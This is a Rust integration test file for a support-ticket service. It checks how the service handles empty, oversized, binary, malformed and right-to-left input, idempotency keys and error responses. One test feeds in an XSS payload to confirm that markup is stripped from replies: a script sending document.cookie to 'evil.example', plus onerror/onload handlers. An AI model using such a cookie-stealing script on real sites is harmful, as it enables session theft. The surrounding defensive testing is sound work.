//! Whatever is sent gets a clear answer, and nothing accepted is lost.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::thread;

use respondo::intake::language::LanguageDetector;
use serde_json::{Value, json};

use crate::support::{Client, Reply, replied_by_itself, sent_messages, shared};

const JSON: &[(&str, &str)] = &[("content-type", "application/json")];

fn send(client: &Client, body: &str) -> Reply {
    client.post("/v1/tickets", &json!({ "body": body }))
}

/// The open or sent draft's text, and all that the customer was sent.
fn all_replies(view: &Value) -> String {
    let drafts = view["drafts"].as_array().expect("drafts").iter();
    let texts: Vec<&str> = drafts.filter_map(|draft| draft["draft"]["text"].as_str()).collect();
    [texts.join("\n"), sent_messages(view).join("\n")].join("\n")
}

#[test]
fn an_empty_message_is_refused() {
    let Some(service) = shared() else { return };
    for empty in ["", "   \n\t \r\n", "\u{200b}\u{2060}\u{feff}", "<p> </p>"] {
        assert!(send(&service.client(), empty).problem(422).contains("empty"), "{empty:?}");
        service.client().post("/v1/triage", &json!({ "body": empty })).problem(422);
    }
    service.client().get("/v1/memory/search?q=").problem(422);
}

#[test]
fn a_message_of_one_mebibyte_is_refused_with_the_limit() {
    let Some(service) = shared() else { return };
    let client = service.client();
    send(&client, &"a ".repeat(1 << 19)).problem(413);
    assert!(send(&client, &"a ".repeat(33_000)).problem(413).contains("65536"));
    // The longest that is taken is worked on like any other.
    let longest = "the stream drops every few minutes. ".repeat(1_820);
    assert!(longest.len() <= 65_536);
    let view = client.worked_ticket(&longest);
    assert_eq!(sent_messages(&view).len(), 1);
}

#[test]
fn long_fields_and_control_characters_in_them_are_refused() {
    let Some(service) = shared() else { return };
    let client = service.client();
    let body = "no puedo entrar en el panel";
    for field in ["customer", "product", "queue"] {
        let long = json!({ "body": body, field: "x".repeat(201) });
        assert!(client.post("/v1/tickets", &long).problem(400).contains(field));
        let control = json!({ "body": body, field: "a\u{1b}[2J" });
        assert!(client.post("/v1/tickets", &control).problem(400).contains(field));
    }
    assert!(
        client
            .post("/v1/tickets", &json!({ "body": body, "subject": "x".repeat(1_001) }))
            .problem(400)
            .contains("subject")
    );
}

#[test]
fn binary_data_is_refused_and_a_stray_nul_is_not() {
    let Some(service) = shared() else { return };
    let client = service.client();
    assert!(send(&client, "\u{0}\u{1}\u{2}\u{3}\u{7f}ELF\u{0}\u{0}\u{0}").problem(422).contains("not text"));
    let view = client.worked_ticket("my radio stream keeps dropping every few\u{0} minutes, what can i do?");
    assert_eq!(sent_messages(&view).len(), 1);
    // Databases do not take it.
    assert_eq!(view["messages"][0]["body"], "my radio stream keeps dropping every few minutes, what can i do?");
}

#[test]
fn values_without_names_and_names_that_cannot_be_are_refused() {
    let Some(service) = shared() else { return };
    let client = service.client();
    let body = "la radio no se oye";
    assert!(client.post("/v1/triage", &json!([body, "", null])).problem(400).contains("object"));
    assert!(client.post("/v1/tickets", &json!([body, "", null, null, null])).problem(400).contains("object"));
    for name in ["queue", "language"] {
        assert!(client.get(&format!("/v1/queue?{name}=%C2%84")).problem(400).contains(name));
        client.get(&format!("/v1/queue?{name}={}", "x".repeat(201))).problem(400);
    }
    // Limits count characters, as the document says.
    let long = json!({ "body": body, "customer": "ñ".repeat(200), "subject": "ñ".repeat(1_000) });
    assert_eq!(client.post("/v1/tickets", &long).status, 201);
    let longer = json!({ "body": body, "customer": "ñ".repeat(201) });
    assert!(client.post("/v1/tickets", &longer).problem(400).contains("201 characters"));
}

#[test]
fn the_document_states_what_every_guarded_address_may_refuse() {
    let Some(service) = shared() else { return };
    let document = service.client().get("/openapi.json").json();
    let paths = document["paths"].as_object().expect("paths");
    let guarded = paths.iter().filter(|(path, _)| path.starts_with("/v1/"));
    let operations: Vec<&Value> = guarded.flat_map(|(_, item)| item.as_object().expect("methods").values()).collect();
    assert!(operations.len() >= 10, "{}", operations.len());
    for operation in operations {
        let mut statuses = vec!["400", "401"];
        if operation.get("requestBody").is_some() {
            statuses.extend(["413", "415"]);
        }
        for status in statuses {
            let content = &operation["responses"][status]["content"];
            assert!(content.get("application/problem+json").is_some(), "{status}: {operation}");
        }
        assert!(operation["security"][0].get("key").is_some(), "{operation}");
    }
}

#[test]
fn invalid_utf8_is_refused() {
    let Some(service) = shared() else { return };
    let body = [b"{\"body\": \"no puedo entrar \xff\xfe\"}".as_slice(), b"\xc3\x28", &[0x80; 64]];
    for body in body {
        service.client().send("POST", "/v1/tickets", JSON, Some(body)).problem(400);
    }
    // Half a surrogate pair is valid JSON syntax and no text.
    service.client().send("POST", "/v1/tickets", JSON, Some(br#"{"body": "\ud83d oops"}"#)).problem(400);
}

#[test]
fn a_message_of_emoji_is_taken_and_asked_about() {
    let Some(service) = shared() else { return };
    let view = service.client().worked_ticket("😡😡😡👎");
    assert_eq!(sent_messages(&view).len(), 1, "{view}");
    assert!(!replied_by_itself(&view));
    assert_eq!(view["messages"][0]["body"], "😡😡😡👎");
}

#[test]
fn a_message_that_only_quotes_is_refused() {
    let Some(service) = shared() else { return };
    let client = service.client();
    let quote = "> please restart the encoder\n> and tell us what happens\n";
    assert!(send(&client, quote).problem(422).contains("quote"));
    let reply = client.post("/v1/tickets", &json!({ "subject": "Re: your request", "body": quote }));
    assert!(reply.problem(422).contains("quote"));
}

#[test]
fn a_message_in_two_languages_is_answered_in_one_of_them() {
    let Some(service) = shared() else { return };
    let view = service.client().worked_ticket(
        "hola, el correo no me llega desde ayer, me sale este error: the mailbox is full and cannot accept any more messages, \
         please delete some mail. qué hago? thanks!",
    );
    let sent = sent_messages(&view).join("\n");
    let language = LanguageDetector.detect(&sent).language;
    assert!(language.is_supported(), "{}: {sent}", language.code());
    assert_eq!(view["ticket"]["language"], language.code());
}

#[test]
fn a_language_that_is_not_supported_is_acknowledged_and_handed_over() {
    let Some(service) = shared() else { return };
    for body in [
        "Buongiorno, da ieri non riesco più ad accedere alla mia casella di posta, la password viene rifiutata. Cosa posso fare?",
        "Dzień dobry, od wczoraj nie mogę zalogować się do swojej skrzynki pocztowej, hasło jest odrzucane. Co mam zrobić?",
        "昨日からメールボックスにログインできません。パスワードが拒否されます。どうすればいいですか。",
    ] {
        let view = service.client().worked_ticket(body);
        let sent = sent_messages(&view);
        assert_eq!(sent.len(), 1, "{view}");
        assert!(!replied_by_itself(&view), "{view}");
        assert!(["review", "escalated"].iter().any(|state| view["ticket"]["state"] == *state), "{view}");
        assert!(!["es", "en"].iter().any(|code| view["ticket"]["language"] == *code), "{}", view["ticket"]);
        // Nobody knows which of our languages this customer reads: both.
        let languages = sent[0].split("\n\n").map(|part| LanguageDetector.detect(part).language.code().to_owned());
        let languages: Vec<String> = languages.collect();
        assert!(
            languages.contains(&"es".to_owned()) && languages.contains(&"en".to_owned()),
            "{languages:?}: {sent:?}"
        );
    }
}

#[test]
fn html_is_read_as_text_and_never_sent_back() {
    let Some(service) = shared() else { return };
    let client = service.client();
    let body = "<html><head><style>p { color: red }</style><script>fetch('http://evil.example/' + document.cookie)</script></head>\
        <body onload=\"alert(1)\"><p>the panel says <b>ERR_TOO_MANY_REDIRECTS</b> since I turned on force https</p>\
        <img src=x onerror=alert(2)></body></html>";
    let view = client.worked_ticket(body);
    let replies = all_replies(&view);
    for markup in ["<script", "<img", "onerror", "evil.example", "color: red"] {
        assert!(!replies.contains(markup), "{markup}: {replies}");
    }
    let found: Vec<&Value> = view["evidence"].as_array().expect("evidence").iter().map(|e| &e["memory_id"]).collect();
    assert!(found.contains(&&json!("nb-1070")), "{found:?}");
    let odd = format!("{}no funciona el correo", "<div>".repeat(5_000));
    assert_eq!(sent_messages(&client.worked_ticket(&odd)).len(), 1, "unclosed tags");
}

#[test]
fn right_to_left_text_is_worked_on_and_overrides_are_dropped() {
    let Some(service) = shared() else { return };
    let client = service.client();
    for body in ["שלום, אני לא מצליח להיכנס לחשבון שלי מאתמול", "مرحبا، لا أستطيع الدخول إلى بريدي الإلكتروني منذ أمس"]
    {
        let view = client.worked_ticket(body);
        assert_eq!(sent_messages(&view).len(), 1, "{view}");
        assert!(!replied_by_itself(&view));
    }
    let view = client.worked_ticket("the stream \u{202e}drops every\u{202c} few minutes since the update");
    let overrides = |text: &str| text.contains(['\u{202e}', '\u{202c}']);
    assert!(!overrides(&all_replies(&view)), "{view}");
}

#[test]
fn the_same_idempotency_key_gives_the_same_ticket() {
    let Some(service) = shared() else { return };
    let client = service.client();
    let key = [("idempotency-key", "key-same-ticket")];
    let body = json!({ "body": "no me llegan los correos", "customer": "c-9" });
    let first = client.post_with("/v1/tickets", &key, &body);
    assert_eq!(first.status, 201, "{}", first.body);
    let again = client.post_with("/v1/tickets", &key, &body);
    assert_eq!((again.status, &again.json()["replayed"]), (200, &json!(true)), "{}", again.body);
    assert_eq!(again.json()["message_id"], first.json()["message_id"]);
    // White space in the JSON does not make another request of it; another customer's key is another key.
    let spaced = br#"{ "customer" : "c-9",  "body": "no me llegan los correos" }"#;
    let headers = [JSON, &key].concat();
    assert_eq!(client.send("POST", "/v1/tickets", &headers, Some(spaced)).status, 200);
    let other = json!({ "body": "another thing entirely is broken", "customer": "c-9" });
    client.post_with("/v1/tickets", &key, &other).problem(409);
    let stranger = json!({ "body": "another thing entirely is broken", "customer": "c-10" });
    assert_eq!(client.post_with("/v1/tickets", &key, &stranger).status, 201);

    let id = first.json()["ticket_id"].as_str().expect("id").to_owned();
    client.worked(&id);
    let path = format!("/v1/tickets/{id}/messages");
    let more = json!({ "body": "sigue sin llegar nada" });
    let statuses = [(); 2].map(|()| client.post_with(&path, &key, &more).status);
    assert_eq!(statuses, [201, 200]);
    client.post_with(&path, &key, &json!({ "body": "ya ha llegado algo" })).problem(409);
    let own = client.worked(&id)["messages"]
        .as_array()
        .expect("messages")
        .iter()
        .filter(|m| m["author"] == "customer")
        .count();
    assert_eq!(own, 2);
    for wrong in ["", " ", &"k".repeat(201)] {
        client.post_with("/v1/tickets", &[("idempotency-key", wrong)], &body).problem(400);
    }
}

#[test]
fn of_twenty_requests_with_one_key_at_once_one_makes_the_ticket() {
    let Some(service) = shared() else { return };
    let client = service.client();
    let body = json!({ "body": "la radio se corta cada pocos minutos" });
    let post = || client.post_with("/v1/tickets", &[("idempotency-key", "twenty-at-once")], &body);
    let replies: Vec<Reply> = thread::scope(|scope| {
        let senders: Vec<_> = (0..20).map(|_| scope.spawn(post)).collect();
        senders.into_iter().map(|sender| sender.join().expect("answered")).collect()
    });
    assert_eq!(replies.iter().filter(|reply| reply.status == 201).count(), 1);
    assert_eq!(replies.iter().filter(|reply| reply.status == 200).count(), 19);
    let id = replies[0].json()["ticket_id"].clone();
    assert!(replies.iter().all(|reply| reply.json()["ticket_id"] == id));
    assert_eq!(sent_messages(&client.worked(id.as_str().expect("id"))).len(), 1);
}

#[test]
fn every_refusal_is_a_problem_in_the_form_of_rfc_9457() {
    let Some(service) = shared() else { return };
    let client = service.client();
    let unknown = "/v1/tickets/00000000-0000-7000-8000-000000000000";
    let (messages, events) = (format!("{unknown}/messages"), format!("{unknown}/events"));
    let deep = "[".repeat(100_000);
    let requests: [(&str, &str, Option<&str>, u16); 19] = [
        ("POST", "/v1/tickets", Some("{\"body\": "), 400),
        ("POST", "/v1/tickets", Some(""), 400),
        ("POST", "/v1/tickets", Some("null"), 400),
        ("POST", "/v1/tickets", Some("[]"), 400),
        ("POST", "/v1/tickets", Some(&deep), 400),
        ("POST", "/v1/tickets", Some("{}"), 400),
        ("POST", "/v1/tickets", Some("{\"body\": 7}"), 400),
        ("POST", "/v1/tickets", Some("{\"body\": \"no funciona\", \"colour\": \"red\"}"), 400),
        ("POST", &messages, Some("{\"body\": \"no funciona el correo\"}"), 404),
        ("GET", unknown, None, 404),
        ("GET", &events, None, 404),
        ("GET", "/v1/tickets/not-an-id", None, 400),
        ("GET", "/v1/nothing", None, 404),
        ("GET", "/v1/tickets", None, 405),
        ("DELETE", unknown, None, 405),
        ("PUT", "/v1/triage", Some("{}"), 405),
        ("GET", "/v1/memory/search", None, 400),
        ("GET", "/v1/memory/search?q=a&limit=0", None, 400),
        ("GET", "/v1/memory/search?q=a&kind=song", None, 400),
    ];
    for (method, path, body, status) in requests {
        let reply = client.send(method, path, JSON, body.map(str::as_bytes));
        assert_eq!(reply.status, status, "{method} {path} {body:.60?}: {}", reply.body);
        reply.problem(status);
    }
    let unknown_field = client.send("POST", "/v1/tickets", JSON, Some(br#"{"body": "no funciona", "colour": "red"}"#));
    assert!(unknown_field.problem(400).contains("colour"));
    let plain = [("content-type", "text/plain")];
    client.send("POST", "/v1/tickets", &plain, Some(b"no funciona")).problem(415);
    client.send("POST", "/v1/tickets", &[], Some(b"{\"body\": \"no funciona\"}")).problem(415);
    let id = client.open_ticket("no me llegan los correos");
    let path = format!("/v1/tickets/{id}/events");
    for wrong in ["x", "1.x", "", "99999999999999999999"] {
        client.send("GET", &path, &[("last-event-id", wrong)], None).problem(400);
    }
}

#[test]
fn noise_on_the_wire_does_not_disturb_the_service() {
    let Some(service) = shared() else { return };
    let noise: [&[u8]; 4] = [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"GET / HTTP/9.9\r\n\r\n",
        b"POST /v1/tickets HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 99\r\n\r\n{\"body\": \"half",
        &[0; 4096],
    ];
    for bytes in noise {
        let mut stream = TcpStream::connect(service.address()).expect("connected");
        stream.write_all(bytes).expect("written");
        stream.shutdown(std::net::Shutdown::Write).expect("half closed");
        // Whatever it answers, it ends the conversation.
        let mut answer = Vec::new();
        drop(stream.read_to_end(&mut answer));
        assert!(!String::from_utf8_lossy(&answer).contains("201"), "half a message was accepted");
    }
    assert_eq!(service.client().get("/healthz").status, 200);
    assert!(!service.said().contains("panicked"), "{}", service.said());
}
